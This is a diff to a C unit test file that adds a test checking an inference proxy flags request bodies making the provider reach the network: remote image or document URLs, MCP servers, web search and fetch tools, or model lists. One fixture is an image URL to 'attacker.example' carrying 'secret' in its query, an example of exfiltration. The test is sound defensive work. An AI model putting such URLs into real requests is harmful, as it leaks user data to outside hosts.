@@ -469,6 +469,45 @@ static void usage_of_a_large_answer(void **state)
     free(a);
 }
 
+/* The attack: a body that has the provider reach the network for the user (a URL to fetch, an MCP
+ * server, web search), or pick a model outside "model".  Inline content stays allowed. */
+static void body_reaching_out_is_named(void **state)
+{
+    (void)state;
+    static const struct { const char *json, *reason; } cases[] = {
+        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}", NULL },
+        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\","
+          "\"image_url\":{\"url\":\"data:image/png;base64,AAAA\"}}]}]}", NULL },
+        { "{\"model\":\"m\",\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\",\"parameters\":"
+          "{\"type\":\"object\",\"properties\":{\"url\":{\"type\":\"string\"}}}}}]}", NULL },
+        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"fetch https://x.example/\"}]}", NULL },
+        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\","
+          "\"image_url\":{\"url\":\"https://attacker.example/p?d=secret\"}}]}]}", "remote_url_not_allowed" },
+        { "{\"model\":\"m\",\"input\":[{\"type\":\"input_image\",\"image_url\":\" HTTPS://a.example/x\"}]}",
+          "remote_url_not_allowed" },
+        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document\","
+          "\"source\":{\"type\":\"url\",\"url\":\"//a.example/f.pdf\"}}]}]}", "remote_url_not_allowed" },
+        { "{\"model\":\"m\",\"tools\":[{\"type\":\"mcp\",\"server_label\":\"x\",\"server_url\":\"https://a.example\"}]}",
+          "server_tools_not_allowed" },
+        { "{\"model\":\"m\",\"tools\":[{\"type\":\"web_search_preview\"}]}", "server_tools_not_allowed" },
+        { "{\"model\":\"m\",\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
+          "server_tools_not_allowed" },
+        { "{\"model\":\"m\",\"tools\":[{\"type\":\"image_generation\",\"model\":\"gpt-image-1\"}]}",
+          "server_tools_not_allowed" },
+        { "{\"model\":\"m\",\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://a.example\"}]}",
+          "server_tools_not_allowed" },
+        { "{\"model\":\"m\",\"models\":[\"o1-pro\"]}", "model_list_not_allowed" },
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        struct inf_body *b = NULL;
+        assert_int_equal(inf_body_parse(cases[i].json, strlen(cases[i].json), &b), INF_BODY_OK);
+        const char *r = inf_body_reach(b);
+        if (cases[i].reason == NULL ? r != NULL : (r == NULL || strcmp(r, cases[i].reason) != 0))
+            fail_msg("case %zu: got %s, want %s", i, r ? r : "(none)", cases[i].reason ? cases[i].reason : "(none)");
+        inf_body_free(b);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -481,6 +520,7 @@ int main(void)
         cmocka_unit_test(body_rejects),
         cmocka_unit_test(usage_in_each_shape),
         cmocka_unit_test(usage_of_a_large_answer),
+        cmocka_unit_test(body_reaching_out_is_named),
         cmocka_unit_test(error_shapes),
         cmocka_unit_test(rate_limit_bucket),
         cmocka_unit_test(body_value_count_bounded),
